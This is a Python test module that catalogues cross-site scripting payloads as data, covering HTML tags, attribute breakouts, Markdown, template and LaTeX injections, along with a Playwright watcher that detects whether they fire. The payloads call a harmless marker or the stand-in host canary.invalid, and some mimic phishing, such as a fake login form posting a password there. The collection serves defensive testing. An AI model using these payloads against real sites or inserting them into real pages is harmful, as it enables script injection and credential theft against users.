"""What a hostile question, address or corpus might carry, and what tells that it took effect.

Each payload calls ``xss(n)``, loads from ``canary.invalid`` or makes an element marked
``data-canary``. `Watch` sees all three in a browser, whenever they happen. Payloads are data
here; tests/browser/test_hostile.py sends them through the page.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from markdown_it import MarkdownIt
from playwright.sync_api import BrowserContext, Page

_HTML = r"""
<script>xss(N)</script>
<script data-canary>xss(N)</script>
<SCRIPT SRC=//canary.invalid/N.js></SCRIPT>
<script type=module>xss(N)</script>
<script/x>xss(N)</script>
<scr<script>ipt>xss(N)</scr</script>ipt><script>xss(N)</script>
<script>/*<!--*/xss(N)/*-->*/</script>
<img data-canary src=x onerror=xss(N)>
<img src=x:x onerror="xss(N)">
<IMG SRC="http://canary.invalid/N.png">
<img/src="x"/onerror=xss(N)>
<img src=x onerror=&#120;ss(N)>
<img src=x onerror=\u0078ss(N)>
<img srcset="http://canary.invalid/N.png 1x">
<img src=x onload=0 onerror='xss(`N`)'>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" onload=xss(N)>
<svg data-canary onload=xss(N)>
<svg><script>xss(N)</script></svg>
<svg><animate onbegin=xss(N) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:xss(N) data-canary></svg>
<svg><a xlink:href="javascript:xss(N)" data-canary><text x=20 y=20>x</text></a></svg>
<svg><image href="http://canary.invalid/N.svg"></svg>
<svg><foreignObject><img src=x onerror=xss(N)></foreignObject></svg>
<svg><style>@import "http://canary.invalid/N.css"</style></svg>
<iframe src="javascript:xss(N)" data-canary></iframe>
<iframe srcdoc="<script>parent.xss(N)</script>"></iframe>
<iframe src=http://canary.invalid/N></iframe>
<object data="data:text/html,<script>xss(N)</script>"></object>
<object data=http://canary.invalid/N></object>
<embed src=http://canary.invalid/N.swf>
<audio src=x onerror=xss(N)></audio>
<video><source src=x onerror=xss(N)></video>
<video poster=http://canary.invalid/N.jpg></video>
<video src=http://canary.invalid/N.mp4 autoplay></video>
<link rel=stylesheet href=http://canary.invalid/N.css>
<link rel=preload as=script href=http://canary.invalid/N.js>
<link rel=prefetch href=http://canary.invalid/N data-canary>
<base href=http://canary.invalid/N/>
<meta http-equiv=refresh content="0;url=http://canary.invalid/N" data-canary>
<meta http-equiv="Content-Security-Policy" content="default-src 'none'" data-canary>
<style data-canary>*{background:url(http://canary.invalid/N)}</style>
<style>@import url(http://canary.invalid/N.css);</style>
<style>@font-face{font-family:c;src:url(http://canary.invalid/N.woff)}body{font-family:c}</style>x
<div data-canary style="position:fixed;inset:0;background:red;z-index:9999">Log in again</div>
<div style="background:url(http://canary.invalid/N)">x</div>
<p style="background-image:u\72l(http://canary.invalid/N)">x</p>
<a href="javascript:xss(N)">x</a>
<a href=" &#1;javascript:xss(N)" data-canary>x</a>
<a href="jav&#x09;ascript:xss(N)">x</a>
<a href="java&NewLine;script&colon;xss(N)">x</a>
<a href="data:text/html,<script>xss(N)</script>" data-canary>x</a>
<a href=http://canary.invalid/N ping=http://canary.invalid/N>x</a>
<form action=http://canary.invalid/N data-canary><input name=password><button>Log in</button></form>
<button form=x formaction=javascript:xss(N) data-canary>x</button>
<input autofocus onfocus=xss(N)>
<textarea autofocus onfocus=xss(N)></textarea>
<select autofocus onfocus=xss(N)></select>
<details open ontoggle=xss(N)>
<details open data-canary><summary>x</summary>y</details>
<dialog open data-canary>Log in again</dialog>
<body onload=xss(N)>
<body background=http://canary.invalid/N.png>
<marquee onstart=xss(N)>x</marquee>
<div onpointerover=xss(N)>hover</div>
<div onclick=xss(N)>click</div>
<div style="animation:spin 1s" onanimationstart=xss(N) data-canary>x</div>
<math data-canary><mtext><table><mglyph><style><img src=x onerror=xss(N)>
<math><mi xlink:href="javascript:xss(N)" data-canary>x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=xss(N)></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=xss(N)>">
<template><script>xss(N)</script></template><img src=x onerror=xss(N)>
<div data-canary><template shadowrootmode=open><img src=x onerror=xss(N)></template></div>
<custom-element data-canary onclick=xss(N)>x</custom-element>
<!--><img src=x onerror=xss(N)>-->
<![CDATA[>]]<img src=x onerror=xss(N)>
<?xml version="1.0"?><img src=x onerror=xss(N)>
<x contenteditable onblur=xss(N) data-canary>x</x>
<portal src=http://canary.invalid/N data-canary></portal>
<table background=http://canary.invalid/N data-canary><td>x</table>
<h1 id=question data-canary>x</h1>
<input id=q name=attributes data-canary>
"""
# A payload, and the careless place it breaks out of.
_BREAKING_OUT = (
    ('"><img src=x onerror=xss(N)>', '<input value="@">'),
    ("'><svg onload=xss(N)>", "<input value='@'>"),
    ('" autofocus onfocus="xss(N)', '<input value="@">'),
    ("' onmouseover='xss(N)' data-canary='", "<a title='@'>x</a>"),
    ("x onerror=xss(N) src=x", "<img alt=@>"),
    ("x\tonerror=xss(N)\tsrc=x", "<img alt=@>"),
    ('" onerror="xss(N)" src="x', '<img alt="@">'),
    ("javascript:xss(N)", '<a href="@">x</a>'),
    ("JaVaScRiPt://%0axss(N)", '<a href="@">x</a>'),
    ("data:text/html;base64,PHNjcmlwdD54c3MoTik8L3NjcmlwdD4=", '<a href="@">x</a>'),
    ("vbscript:xss(N)", '<a href="@">x</a>'),
    ("//canary.invalid/N", '<img src="@">'),
    ("http://canary.invalid/N", '<iframe src="@"></iframe>'),
    ("</script><script>xss(N)</script>", '<script>var data = {"q": "@"}</script>'),
    ('"};xss(N);//', '<script>var data = {"q": "@"}</script>'),
    ('\\"};xss(N);//', '<script>var data = {"q": "\\@"}</script>'),
    ("</title><img src=x onerror=xss(N)>", "<title>@</title>"),
    ("</textarea><img src=x onerror=xss(N)>", "<textarea>@</textarea>"),
    ("</style><img src=x onerror=xss(N)>", "<style>@</style>"),
    ("}*{background:url(http://canary.invalid/N)}", "<style>p{color:red@}</style>"),
    ("red;background:url(http://canary.invalid/N)", '<p style="color:@">x</p>'),
    ("--><img src=x onerror=xss(N)>", "<!-- @ -->"),
    ("]]><img src=x onerror=xss(N)>", "<svg><![CDATA[@]]></svg>"),
    ("</p></div><img src=x onerror=xss(N)>", "<div><p>@</p></div>"),
    ("0&NewLine;\u2028<img src=x onerror=xss(N)>", "<p>@</p>"),
    ("\u202e>(N)ssx=rorreno x=crs gmi<\u202c<img src=x onerror=xss(N)>", "<p>@</p>"),
    ("\u200b<\u200b<img\u000csrc=x\u000conerror=xss(N)>", "<p>@</p>"),
    ("+ADw-script+AD4-<svg/onload=xss(N)>", "<p>@</p>"),
)
_MARKDOWN = r"""
[x](javascript:xss(N))
[x](<javascript:xss(N)>)
![x](http://canary.invalid/N.png)
![x][c]
[x](http://canary.invalid/N "x")
<http://canary.invalid/N>
[x](data:text/html,<script>xss(N)</script>)
![" onerror="xss(N)](x)<img src=x onerror=xss(N)>
**bold** <img src=x onerror=xss(N)>
| a | b |<img src=x onerror=xss(N)>
"""
_TEMPLATES = r"""
${xss(N)}
${{}.constructor.constructor('xss(N)')()}
{{xss(N)}}
{{constructor.constructor('xss(N)')()}}
${value}${xss(N)}
`+xss(N)+`
"""
_LATEX = r"""
$\href{javascript:xss(N)}{x}$
$$\includegraphics{http://canary.invalid/N.png}$$
\(\htmlData{canary=N}{x}\) \href{http://canary.invalid/N}{x}
"""


_N = re.compile(r"\bN\b")  # stands for the payload's number


@dataclass(frozen=True, slots=True)
class Payload:
    """Something hostile, and a page so careless that it takes effect there.

    Attributes:
        kind: html, breaking-out, markdown, template or latex.
        text: what is sent.
        careless: HTML of the page that shows it without care.
    """

    number: int
    kind: str
    text: str
    careless: str


def payloads() -> tuple[Payload, ...]:
    """All of them, numbered from 1."""
    return tuple(
        Payload(number, kind, _N.sub(str(number), text), _N.sub(str(number), careless))
        for number, (kind, text, careless) in enumerate(_raw(), 1)
    )


def _raw() -> Iterator[tuple[str, str, str]]:
    for line in _HTML.strip().splitlines():
        yield "html", line, f"<!doctype html><body>{line}"
    for text, place in _BREAKING_OUT:
        yield "breaking-out", text, f"<!doctype html>{place.replace('@', text)}"
    markdown = MarkdownIt("commonmark", {"html": True})
    markdown.validateLink = lambda _: True  # type: ignore[assignment,method-assign]
    for line in _MARKDOWN.strip().splitlines():
        reference = "\n\n[c]: http://canary.invalid/N.png"
        yield (
            "markdown",
            line + (reference if "[c]" in line else ""),
            "<!doctype html>" + (markdown.render(line + reference)),
        )
    for line in _TEMPLATES.strip().splitlines():
        script = re.sub(r"\{\{(.*)\}\}", r"${\1}", line) if line.startswith("{{") else line
        yield "template", line, f"<!doctype html><script>var value=''; `{script}`</script>"
    for line in _LATEX.strip().splitlines():
        tags = re.sub(r"\\href\{(.*?)\}\{x\}", r'<a href="\1">x</a>', line)
        tags = re.sub(r"\\includegraphics\{(.*?)\}", r'<img src="\1">', tags)
        yield "latex", line, f"<!doctype html>{tags}"


# Runs before any script of a page: looks at every element that appears and every attribute set.
_EYES = r"""
(() => {
  const ADDRESSES = ["src", "href", "xlink:href", "action", "formaction", "data", "poster",
    "background", "ping", "srcset"];
  const OURS = /xss\s*\(|canary/i;
  const ofPayload = (element) => {
    if (element.hasAttribute("data-canary")) return "marked";
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) && OURS.test(value)) return name;
      if (name === "style" && OURS.test(value)) return name;
      if (!ADDRESSES.includes(name.toLowerCase())) continue;
      let url;
      try { url = new URL(value.trim(), "http://here.invalid/"); } catch { continue; }
      if (name === "srcset" ? OURS.test(value) : url.host === "canary.invalid") return name;
      if (/^(javascript|vbscript|data):/.test(url.protocol) && OURS.test(decodeURIComponent(value)))
        return name;
      if (/^data:text/.test(value.trim())) return name;
    }
    return "";
  };
  const look = (root) => {
    if (root.nodeType !== 1 && root.nodeType !== 9) return;
    for (const element of [root, ...root.querySelectorAll("*")]) {
      const how = element.attributes && ofPayload(element);
      if (how) window.xssElement(`<${element.localName}> by ${how}`);
      if (element.matches?.(".katex, mjx-container")) window.xssElement("typeset formula");
    }
  };
  new MutationObserver((changes) => {
    for (const change of changes) {
      if (change.type === "attributes") look(change.target);
      change.addedNodes.forEach(look);
    }
  }).observe(document, { childList: true, subtree: true, attributes: true });
  window.xssLook = () => look(document);
})();
"""
_PROVOKE = """
() => {
  for (const element of document.querySelectorAll("body *:not(:disabled)"))
    for (const event of ["pointerover", "mouseover", "focus", "blur", "click"])
      element.dispatchEvent(new Event(event, { bubbles: false, cancelable: true }));
}
"""


@dataclass
class Watch:
    """All that payloads do in a browser context, as lines; empty is good.

    Attributes:
        home: addresses that may be asked.
        at: what is being done, told with each finding.
    """

    context: BrowserContext
    home: str
    at: str = ""
    found: list[str] = field(default_factory=list)
    requests: int = 0

    def __post_init__(self) -> None:
        context = self.context
        context.expose_binding("xss", lambda _, n=0: self._add(f"ran: payload {n}"))
        context.expose_binding("xssElement", lambda _, how: self._add(f"element: {how}"))
        context.add_init_script(_EYES)
        context.on("page", self._follow)
        context.on("request", lambda request: self._request(request.url))

    def look(self, page: Page) -> None:
        """Look over all that the page holds now."""
        page.evaluate("() => window.xssLook()")

    def provoke(self, page: Page) -> None:
        """Touch every element, as a reader might."""
        page.evaluate(_PROVOKE)

    def _follow(self, page: Page) -> None:
        def dismiss(dialog: Any) -> None:
            self._add(f"dialog: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", dismiss)
        page.on("pageerror", lambda error: self._add(f"script failed: {error}"))
        page.on(
            "console",
            lambda said: self._add(f"console: {said.text}") if "xss" in said.text else None,
        )

    def _request(self, url: str) -> None:
        self.requests += 1
        if not url.startswith((self.home, "data:", "blob:", "file:")):
            self._add(f"request: {url}")

    def _add(self, what: str) -> None:
        self.found.append(f"{self.at}: {what}")
